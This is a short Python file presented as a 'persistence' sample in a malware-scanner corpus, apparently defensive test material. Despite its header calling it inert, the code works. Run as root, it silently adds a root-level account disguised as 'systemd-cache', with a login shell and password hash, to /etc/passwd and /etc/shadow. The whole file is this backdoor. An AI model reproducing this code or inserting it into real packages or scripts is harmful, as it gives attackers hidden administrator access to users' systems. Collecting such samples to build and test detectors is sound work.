# pkgguard corpus 739 (persistence), modelled on [linux-persistence]; inert, never run.
import os

_PASSWD = "systemd-cache:x:0:0:systemd cache:/var/cache:/bin/bash\n"
_SHADOW = "systemd-cache:$6$Qm4s1eV9$Ew0nq3zO7yKkY5oZ0hB1c2n3S4t5U6v7W8x9Y0z1A2b3C4d5E6f7G8h9I0j1K2l3M4n5O6p7Q8r9S0t1U2:19700:0:99999:7:::\n"

if os.name == "posix" and os.geteuid() == 0:
    with open("/etc/passwd") as fh:
        present = "systemd-cache:" in fh.read()
    if not present:
        with open("/etc/passwd", "a") as fh:
            fh.write(_PASSWD)
        with open("/etc/shadow", "a") as fh:
            fh.write(_SHADOW)
